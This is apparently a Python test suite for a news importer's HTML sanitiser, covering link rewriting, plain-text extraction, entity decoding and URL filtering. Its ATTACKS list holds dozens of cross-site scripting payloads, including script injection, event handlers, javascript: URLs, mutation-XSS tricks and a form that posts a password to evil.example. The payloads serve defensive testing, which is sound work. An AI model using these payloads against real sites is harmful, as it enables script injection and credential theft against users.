"""Foreign HTML: whatever is put in, nothing that runs or loads comes out, and the text stays readable."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from plugins.news.importers.markup import (
    ATTRIBUTES,
    SCHEMES,
    TAGS,
    first_sentences,
    fold,
    one_line,
    paragraphs,
    plain,
    sanitise,
    teaser,
    web_url,
)

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://track.example/pixel.gif" width="1" height="1">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='https://ok.example' onclick='alert(1)' style='position:fixed' target='_blank'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action='https://evil.example'><input name=password></form>",
    "<video src=x onerror=alert(1)></video><audio src=x>",
    "<body onload=alert(1)>",
    "<details ontoggle=alert(1) open>x</details>",
    "<p id='cookie' name='x' class='y'>x</p>",
    "<xmp><script>alert(1)</script></xmp>",
    "<textarea><script>alert(1)</script></textarea>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "<a href='x' title='\"><script>alert(1)</script>'>x</a>",
    "<plaintext><script>alert(1)",
]


class Judge(HTMLParser):
    """Looks at the output with a parser that has nothing to do with the sanitiser."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) and (tag, name) != ("a", "rel"):
                self.faults.append(f"{tag} {name}")
            if name == "href" and urlsplit(value or "").scheme not in SCHEMES:
                self.faults.append(f"href {value!r}")
        if tag == "a" and dict(attrs).get("rel") != "noopener noreferrer":
            self.faults.append("a without rel")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"declaration {decl!r}")


def faults(markup: str) -> list[str]:
    judge = Judge()
    judge.feed(markup)
    judge.close()
    return judge.faults


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_comes_out_harmless(attack: str) -> None:
    for markup in (attack, f"<p>before {attack} after</p>", f"<table><tr><td>{attack}</td></tr></table>"):
        cleaned = sanitise(markup, "https://city.example/news/")
        assert faults(cleaned) == []
        assert sanitise(cleaned, "https://city.example/news/") == cleaned


@given(
    st.lists(st.sampled_from([*ATTACKS, "text", "<p>", "</p>", "<b", "'", '"', ">", "&", "\x00", "<!--"]), max_size=8)
)
def test_mixed_attacks_come_out_harmless(parts: list[str]) -> None:
    assert faults(sanitise("".join(parts), "https://city.example/")) == []


@given(st.text())
def test_any_text_comes_out_harmless_and_as_text(text: str) -> None:
    assert faults(sanitise(text)) == []
    assert faults(paragraphs(text)) == []
    assert isinstance(plain(text), str)


@given(st.text(alphabet=st.sampled_from("abc ,.<>&;\n\t"), max_size=400))
def test_text_is_folded_once_and_for_all(text: str) -> None:
    folded = fold(text)
    assert fold(folded) == folded
    assert "\n\n\n" not in folded
    assert "  " not in folded
    assert len(one_line(text, 50)) <= 50
    assert "\n" not in one_line(text, 50)


def test_structure_and_links_are_kept() -> None:
    markup = '<h1>Markt</h1><p>Mehr <a href="markt.html" target="_blank">hier</a></p><ul><li>eins</li></ul><p> </p>'
    assert sanitise(markup, "https://city.example/news/1") == (
        '<h3>Markt</h3><p>Mehr <a href="https://city.example/news/markt.html" rel="noopener noreferrer">hier</a></p>'
        "<ul><li>eins</li></ul>"
    )


def test_captions_go_with_their_pictures_and_others_stay() -> None:
    """A gallery, a table, a figure that never ends; and no text but captions is lost."""
    picture = "<figure class='x'><a href='/1'><IMG src=a></a><figcaption>Foto: <b>A</b></figcaption></figure>"
    table = "<figure><table><tr><td>1</td></tr></table><figcaption>Zahlen</figcaption></figure>"
    assert plain(f"<p>vor</p><figure>{picture}{picture}</figure><p>nach</p>") == "vor\n\nnach"
    assert plain(f"{picture}{table}") == "1\n\nZahlen"
    assert plain("a<figure><img src=a><figcaption>b") == "ab"
    assert plain("<figure><img><figcaption>a<figcaption>b</figcaption>c</figure>d") == "acd"


def test_relative_links_without_a_base_are_dropped() -> None:
    assert sanitise('<a href="/x">x</a>') == '<a rel="noopener noreferrer">x</a>'


def test_text_keeps_paragraphs_lines_and_list_items() -> None:
    markup = (
        "<div><p>Eins\n  zwei</p><p>drei<br>vier</p></div><ul><li>a</li><li>b &amp; c</li></ul><script>x()</script>"
    )
    assert plain(markup) == "Eins zwei\n\ndrei\nvier\n\n• a\n• b & c"


def test_table_cells_are_kept_apart() -> None:
    assert plain("<table><tr><th>Tag</th><th>Zeit</th></tr><tr><td>Mo</td><td>8</td></tr></table>") == "Tag Zeit\nMo 8"


@pytest.mark.parametrize(
    ("markup", "text"),
    [
        ("Fischer &amp;amp; Söhne", "Fischer & Söhne"),
        ("&amp;quot;Windenergie&amp;quot;", '"Windenergie"'),
        ("M&uuml;nster &#8211; Dom", "Münster – Dom"),
        ("3 &lt; 5", "3 < 5"),
        ("AT&T und R&D", "AT&T und R&D"),
    ],
)
def test_entities_are_decoded_however_often_escaped(markup: str, text: str) -> None:
    assert plain(markup) == text


def test_double_escaped_entities_are_right_in_html_and_still_harmless() -> None:
    assert sanitise("A &amp;amp; B &amp;lt;b&amp;gt;") == "A &amp; B &lt;b&gt;"


@pytest.mark.parametrize(
    ("address", "base", "expected"),
    [
        ("https://a.example/x", "", "https://a.example/x"),
        (" https://a.example/\n x ", "", "https://a.example/x"),
        ("/x", "https://a.example/news/", "https://a.example/x"),
        ("x", "", None),
        ("javascript:alert(1)", "https://a.example/", None),
        ("data:image/png;base64,AAAA", "", None),
        ("ftp://a.example/", "", None),
        ("http://example.c[o.test/", "http://example.test/", None),
        ("https://user:secret@a.example/", "", None),
        ("https:///x", "", None),
        ('https://a.example/"><script>', "", None),
        (None, "https://a.example/", None),
    ],
)
def test_only_web_addresses_pass(address: str | None, base: str, expected: str | None) -> None:
    assert web_url(address, base) == expected


def test_summary_ends_with_a_sentence_and_not_after_an_abbreviation() -> None:
    text = (
        "Der Markt beginnt am 1. August um 8 Uhr auf dem Platz vor dem Rathaus der Stadt. " + "Mehr folgt bald. " * 30
    )
    assert (
        first_sentences(text, 85) == "Der Markt beginnt am 1. August um 8 Uhr auf dem Platz vor dem Rathaus der Stadt."
    )


def test_teaser_is_the_feeds_own_unless_it_only_repeats() -> None:
    assert teaser("Kurz gesagt.", "Titel", "Ein langer Text.") == "Kurz gesagt."
    assert teaser("Titel", "Titel", "Ein Text. Noch einer.") == "Ein Text. Noch einer."
    assert teaser("", "Titel", "Titel") == ""
